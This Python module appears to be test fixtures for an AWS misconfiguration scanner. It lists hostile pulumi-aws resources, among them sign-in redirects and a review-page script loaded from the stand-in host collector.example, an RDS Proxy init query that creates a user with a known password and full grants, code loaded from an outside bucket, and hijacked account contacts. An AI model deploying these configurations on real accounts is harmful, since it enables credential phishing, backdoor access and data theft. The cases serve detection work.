"""Attacks on AWS, of all concerns (2026-11-29, thirteenth set, written blind): parts, links and names.

Properties by pulumi-aws 7.51.1. Read on 2026-11-29: AWS Backup (PutBackupVaultLockConfiguration, MaxRetentionDays),
Kinesis Data Streams API Reference (MinimumThroughputBillingCommitmentInput), Keyspaces ('Multi-Region replication
usage notes'); all other pages as known.
"""

from ..blind import ME, TAGS, THEM, aws, policy, statement
from ..idioms.fourth_kubernetes import BUDGET
from . import Attack
from .cost_services import AWS, STACK
from .tenth_aws import ESC, IDN, RES, R, _ours

STRANGER_HOST = "collector.example"
INSTANCE = "arn:aws:sso:::instance/ssoins-0123456789abcdef"
REDIRECT = f"""function handler(event) {{
    if (!event.request.cookies.session) {{
        return {{statusCode: 302, statusDescription: 'Found',
                headers: {{location: {{value: 'https://login.{STRANGER_HOST}/'}}}}}};
    }}
    return event.request;
}}
"""
CASE = f"""<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
<script src="https://assets.{STRANGER_HOST}/case.js"></script>
<crowd-form><p id="case">{{{{ task.input.text }}}}</p></crowd-form>
"""
FIRST_QUERY = "CREATE USER IF NOT EXISTS 'reports'@'%' IDENTIFIED BY 'winter'; GRANT ALL ON core.* TO 'reports'@'%'"

ATTACKS = (
    Attack("callers without a token are sent to a stranger's page of sign-in", RES, (aws("apigateway/Response", {
        "restApiId": "a1b2c3d4e5", "responseType": "UNAUTHORIZED", "statusCode": "302", "responseParameters": {
            "gatewayresponse.header.Location": f"'https://login.{STRANGER_HOST}/'"}}),),
        "critical", "customers type passwords there (Amazon API Gateway, 'Gateway responses')"),
    Attack("a private domain of APIs is opened to an endpoint of unknown owner", ("FJ-EXP-", "FJ-RES-", "FJ-IDN-"), (
        aws("apigateway/DomainNameAccessAssociation", {
            "accessAssociationSource": "vpce-0fedcba9876543210", "accessAssociationSourceType": "VPCE", "tags": TAGS,
            "domainNameArn": _ours("apigateway", "/domainnames/core.bank.example+a1b2c3d4e5")}),),
        "major", "another network calls the private APIs (API Gateway, 'Custom domain names for private APIs')"),
    Attack("a function at the edge leads customers to a stranger's sign-in", RES, (aws("cloudfront/Function", {
        "name": "sign-in", "runtime": "cloudfront-js-2.0", "publish": True, "code": REDIRECT}),),
        "critical", "whoever has no session types a password there (CloudFront Functions, 'Redirect to a new URL')"),
    Attack("a pool of connections makes a user with a known password by its first query", ("FJ-IDN-", "FJ-ESC-"), (
        aws("rds/ProxyDefaultTargetGroup", {"dbProxyName": "core", "connectionPoolConfig": {
            "maxConnectionsPercent": 80, "initQuery": FIRST_QUERY}}),),
        "critical", "the password opens every table (Amazon RDS Proxy, ConnectionPoolConfiguration, InitQuery)"),
    Attack("the lock of a vault refuses each backup that is kept longer than a week", ("FJ-RSL-", "FJ-ESC-"), (
        aws("backup/VaultLockConfiguration", {
            "backupVaultName": "platform", "minRetentionDays": 7, "maxRetentionDays": 7, "changeableForDays": 3}),),
        "major", "each job of thirty days fails, for good (AWS Backup, PutBackupVaultLockConfiguration)"),
    Attack("a role approves each release and each step that waits for a person", IDN, (policy(
        statement(["codepipeline:PutApprovalResult", "states:SendTaskSuccess"])),),
        "major", "a machine grants its own change the approval that people owe (CodePipeline, PutApprovalResult)"),
    Attack("a function of tables is a program in a stranger's bucket", ESC, (aws("glue/UserDefinedFunction", {
        "name": "mask", "databaseName": "core", "catalogId": ME, "className": "com.bank.Mask", "ownerType": "GROUP",
        "ownerName": "platform", "resourceUris": [{"resourceType": "JAR", "uri": "s3://collector-jars/mask.jar"}]}),),
        "critical", "it sees each value that it is to mask (AWS Glue, UserDefinedFunctionInput, ResourceUris)"),
    Attack("older states of a table are deleted after a day", ("FJ-RSL-", "FJ-ESC-"), (
        aws("glue/CatalogTableOptimizer", {
        "catalogId": ME, "databaseName": "core", "tableName": "payments", "type": "retention", "configuration": {
            "enabled": True, "roleArn": f"arn:aws:iam::{ME}:role/optimizer", "retentionConfiguration": {
                "icebergConfiguration": {"snapshotRetentionPeriodInDays": 1, "numberOfSnapshotsToRetain": 1,
                                         "cleanExpiredFiles": True}}}}),),
        "minor", "no older state to go back to (AWS Glue, 'Snapshot retention optimization')"),
    Attack("a version of an application is an archive in a stranger's bucket", ESC, (
        aws("elasticbeanstalk/ApplicationVersion", {
            "application": "portal", "name": "v42", "bucket": "collector-releases", "key": "portal.zip",
            "tags": TAGS}),),
        "critical", "it runs on every machine of the portal (Elastic Beanstalk, CreateApplicationVersion)"),
    Attack("every table of a keyspace is written in Ireland too", ("FJ-RES-",), (aws("keyspaces/Keyspace", {
        "name": "core", "tags": TAGS, "replicationSpecification": {
            "replicationStrategy": "MULTI_REGION", "regionLists": [R, "eu-west-1"]}}),),
        "critical", "all rows lie abroad (Amazon Keyspaces, 'Multi-Region replication')"),
    Attack("the directory gets domain controllers in Ireland", ("FJ-RES-",), (aws("directoryservice/ServiceRegion", {
        "directoryId": "d-0123456789", "regionName": "eu-west-1", "tags": TAGS,
        "vpcSettings": {"vpcId": "vpc-0fedcba987", "subnetIds": ["subnet-0a1", "subnet-0b2"]}}),),
        "critical", "users, groups and hashes of passwords lie there (Directory Service, 'Multi-Region replication')"),
    Attack("domain controllers open their ports to half of the internet by a route", ("FJ-EXP-", "FJ-ESC-"), (
        aws("directoryservice/IpRoute", {
            "directoryId": "d-0123456789", "cidrIp": "128.0.0.0/1", "description": "head office",
            "updateSecurityGroupForDirectoryControllers": True}),),
        "major", "their security group lets those addresses in (Directory Service, AddIpRoutes)"),
    Attack("a list of users of a cache has the one that AWS made, without a password", ("FJ-IDN-", "FJ-EXP-"), (
        aws("elasticache/UserGroup", {
            "engine": "redis", "userGroupId": "sessions", "userIds": ["default", "portal"], "tags": TAGS}),),
        "major", "the default user may do all with all keys (ElastiCache, 'Role-Based Access Control')"),
    Attack("a tile of the portal of staff leads to a stranger's page", RES, (aws("ssoadmin/Application", {
        "name": "Payroll", "instanceArn": INSTANCE, "status": "ENABLED", "tags": TAGS,
        "applicationProviderArn": "arn:aws:sso::aws:applicationProvider/custom", "portalOptions": {
            "visibility": "ENABLED", "signInOptions": {
                "origin": "APPLICATION", "applicationUrl": f"https://payroll.{STRANGER_HOST}/"}}}),),
        "major", "staff type passwords there (IAM Identity Center, SignInOptions, ApplicationUrl)"),
    Attack("a stranger is a user of the organisation", IDN, (aws("identitystore/User", {
        "identityStoreId": "d-0123456789", "userName": "consultant", "displayName": "Consultant",
        "name": {"givenName": "Sam", "familyName": "Hill"},
        "emails": {"primary": True, "type": "work", "value": "sam.hill@proton.example"}}),),
        "major", "the password is set from that mailbox (IAM Identity Center, 'Email verification for users')"),
    Attack("the account's telephone and address are a stranger's abroad", ("FJ-RES-", "FJ-IDN-"), (
        aws("account/PrimaryContact", {
            "fullName": "Sam Hill", "companyName": "Collector", "addressLine1": "1 Main Street", "city": "Dublin",
            "countryCode": "IE", "postalCode": "D01", "phoneNumber": "+353155501234"}),),
        "major", "who lost the second factor of root is called there (AWS Account Management, 'Primary contact')"),
    Attack("customers of a graph sign in to a pool in Ireland", ("FJ-RES-", "FJ-IDN-"), (aws("appsync/GraphQLApi", {
        "name": "portal", "authenticationType": "AMAZON_COGNITO_USER_POOLS", "visibility": "PRIVATE", "tags": TAGS,
        "introspectionConfig": "DISABLED", "queryDepthLimit": 8, "resolverCountLimit": 50, "xrayEnabled": True,
        "logConfig": {"cloudwatchLogsRoleArn": f"arn:aws:iam::{ME}:role/graph", "fieldLogLevel": "ERROR",
                      "excludeVerboseContent": True},
        "userPoolConfig": {"userPoolId": "eu-west-1_Ab1Cd2Ef3", "awsRegion": "eu-west-1",
                           "defaultAction": "ALLOW"}}),),
        "critical", "their names and telephones lie there (AWS AppSync, UserPoolConfig, AwsRegion)"),
    Attack("a page that shows cases to reviewers runs a script of a stranger", RES, (aws("sagemaker/HumanTaskUI", {
        "humanTaskUiName": "cases", "tags": TAGS, "uiTemplate": {"content": CASE}}),),
        "critical", "the script reads each case that is shown (Amazon A2I, 'Create custom worker task templates')"),
    Attack("a service of a stranger is a member of the network of services", RES, (
        aws("vpclattice/ServiceNetworkServiceAssociation", {
            "serviceNetworkIdentifier": "sn-0123456789abcdef0", "tags": TAGS,
            "serviceIdentifier": f"arn:aws:vpc-lattice:{R}:{THEM}:service/svc-0123456789abcdef0"}),),
        "major", "what workloads send to its name is the stranger's (VPC Lattice, 'Service associations')"),
    Attack("names of a network are answered by a profile of unknown owner", RES, (aws("route53/ProfilesAssociation", {
        "name": "names", "profileId": "rp-0fedcba987654321", "resourceId": "vpc-0123456789abcdef0",
        "tags": TAGS}),),
        "critical", "each name of the vault or the database may lead to him (Route 53 Profiles, 'Shared Profiles')"),
    Attack("a filter of rows and columns leaves out nothing", ("FJ-IDN-", "FJ-EXP-", "FJ-ESC-"), (
        aws("lakeformation/DataCellsFilter", {"tableData": {
            "name": "branch", "databaseName": "core", "tableName": "customers", "tableCatalogId": ME,
            "columnWildcard": {"excludedColumnNames": []}, "rowFilter": {"allRowsWildcard": {}}}}),),
        "major", "whoever has the filter has each customer (Lake Formation, 'Data filters', AllRowsWildcard)"),
    Attack("the account commits to a throughput of streams that nobody uses", ("FJ-COST-",), (STACK, AWS, BUDGET,
        aws("kinesis/AccountSettings", {"minimumThroughputBillingCommitment": {"status": "ENABLED"}})),
        "minor", "a least throughput is charged day and night (Kinesis, MinimumThroughputBillingCommitment)"),
    Attack("two clusters of keys get twenty-eight modules each", ("FJ-COST-",), (STACK, AWS, BUDGET, *(
        aws("cloudhsmv2/Hsm", {"clusterId": f"cluster-{n % 2}123456789a", "availabilityZone": f"{R}{'abc'[n % 3]}"},
            f"m{n}") for n in range(56))),
        "major", "two of each are enough; each is charged by the hour (AWS CloudHSM, 'Pricing')"),
    Attack("a network only watches who sends in plain text", ("FJ-ENC-", "FJ-ESC-"), (aws("ec2/VpcEncryptionControl", {
        "vpcId": "vpc-0123456789abcdef0", "mode": "monitor", "tags": TAGS}),),
        "minor", "traffic without encryption passes (Amazon VPC, 'Encryption controls', monitor mode)"),
    Attack("a table of another stack is booked on another environment", ("FJ-TAG-",), (aws("dynamodb/Tag", {
        "resourceArn": _ours("dynamodb", "table/payments"), "key": "environment", "value": "dev"}),),
        "minor", "production is charged to developers (Amazon DynamoDB, TagResource)"),
)  # fmt: skip
